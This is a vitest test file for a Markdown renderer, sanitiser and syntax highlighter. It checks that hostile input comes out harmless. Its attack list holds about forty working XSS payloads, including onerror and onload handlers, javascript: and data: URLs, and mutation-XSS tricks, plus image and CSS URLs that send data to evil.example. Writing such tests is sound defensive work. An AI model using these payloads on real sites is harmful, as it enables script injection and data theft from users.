// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { highlight, known_language } from './highlight';
import { render_blocks, sanitise } from './markdown';

function dom(source: string): HTMLElement {
  const root = document.createElement('div');
  for (const block of render_blocks(source)) {
    if (block.kind === 'html') root.insertAdjacentHTML('beforeend', block.html);
    else root.append(Object.assign(document.createElement('pre'), { textContent: block.code }));
  }
  return root;
}

const attacks = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](java\tscript:alert(1))', '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))', '[x](vbscript:msgbox(1))', '[x](data:text/html,<script>alert(1)</script>)',
  '![x](javascript:alert(1))', '![x](https://evil.example/?q=secret)', '![x][1]\n\n[1]: https://evil.example/a.png "onerror=alert(1)"',
  '<javascript:alert(1)>', '<a href="javascript:alert(1)">x</a>', '<iframe src="javascript:alert(1)"></iframe>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>', '<form><button formaction=javascript:alert(1)>x</form>',
  '<input autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)></video>',
  '<style>*{background:url(https://evil.example)}</style>', '<link rel=stylesheet href=https://evil.example>',
  '<base href=https://evil.example>', '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<p style="background:url(https://evil.example)">x</p>', '```"><img src=x onerror=alert(1)>\ncode\n```',
  '`<img src=x onerror=alert(1)>`', '[x](https://ok.example "onmouseover=alert(1) \\"><img src=x onerror=alert(1)>")',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |', '- <script>alert(1)</script>', '> <svg onload=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<!--><img src=x onerror=alert(1)>-->',
  'x\u0000<img src=x onerror=alert(1)>', '[a](<javascript:alert(1)>)', 'https://ok.example/"onmouseover="alert(1)',
  '<object data="data:text/html,x"></object>', '<embed src=//evil.example>', '<template><img src=x onerror=alert(1)></template>',
];
const harmless_tags = new Set(['P', 'BR', 'HR', 'STRONG', 'EM', 'S', 'CODE', 'PRE', 'BLOCKQUOTE', 'UL', 'OL', 'LI', 'A', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'DIV', 'H1', 'H2', 'H3']);
const harmless_attributes = new Set(['href', 'title', 'target', 'rel', 'referrerpolicy', 'class', 'start', 'align', 'tabindex', 'role', 'aria-label']);

function expect_harmless(root: HTMLElement) {
  for (const node of root.querySelectorAll('*')) {
    expect(harmless_tags).toContain(node.tagName);
    for (const { name, value } of node.attributes) {
      expect(harmless_attributes).toContain(name);
      if (name === 'href') expect(value).toMatch(/^(https?|mailto):/);
    }
  }
}

describe('hostile Markdown', () => {
  it.each(attacks)('%s does nothing', (attack) => {
    expect_harmless(dom(attack));
    expect_harmless(dom(`text before ${attack} and after`));
  });

  it.each(attacks)('%s does nothing even as html', (attack) => {
    const root = document.createElement('div');
    root.innerHTML = sanitise(attack);
    expect_harmless(root);
  });

  it('fetches no picture, but names it', () => {
    const root = dom('See ![the plan](https://evil.example/p.png?q=secret) here.');
    expect(root.querySelector('img')).toBeNull();
    expect(root.querySelector('a')?.textContent).toBe('the plan (picture)');
  });

  it('opens links elsewhere and tells nothing', () => {
    const link = dom('[x](https://ok.example)').querySelector('a');
    expect(link?.target).toBe('_blank');
    expect(link?.rel).toContain('noopener');
    expect(link?.getAttribute('referrerpolicy')).toBe('no-referrer');
  });
});

describe('render_blocks', () => {
  it('splits at the top level and keeps code apart', () => {
    const blocks = render_blocks('# A\n\ntext *b*\n\n```ts title\nlet x = "<b>";\n```\n\n- one\n- two');
    expect(blocks.map((b) => b.kind)).toEqual(['html', 'html', 'code', 'html']);
    expect(blocks[2]).toEqual({ kind: 'code', language: 'ts', code: 'let x = "<b>";' });
  });

  it('gives the unchanged pieces of a stream the same html', () => {
    const whole = 'First **part**.\n\nSecond part with `code`.\n\nThird';
    const [first] = render_blocks(whole.slice(0, 20));
    expect(render_blocks(whole)[0]).toEqual(first);
  });

  it('shows a fence that is still open as code', () => {
    expect(render_blocks('```py\nprint(1)')).toEqual([{ kind: 'code', language: 'py', code: 'print(1)' }]);
  });

  it('takes no long time over nasty input', () => {
    const begun = performance.now();
    for (const piece of ['*a ', '[', '`', '> ', '![', '| ', '<a ']) render_blocks(piece.repeat(4000));
    expect(performance.now() - begun).toBeLessThan(4000);
  });
});

describe('highlight', () => {
  it('escapes what it colours', async () => {
    const html = await highlight('<img src=x onerror=alert(1)>', 'html');
    const root = document.createElement('div');
    root.innerHTML = html ?? '';
    expect(root.querySelectorAll(':not(span)')).toHaveLength(0);
    expect(root.textContent).toBe('<img src=x onerror=alert(1)>');
  });

  it('leaves unknown languages, and names of Object.prototype, alone', async () => {
    expect(known_language('Python')).toBe('python');
    expect(known_language('constructor')).toBeUndefined();
    expect(await highlight('x', '__proto__')).toBeUndefined();
  });
});
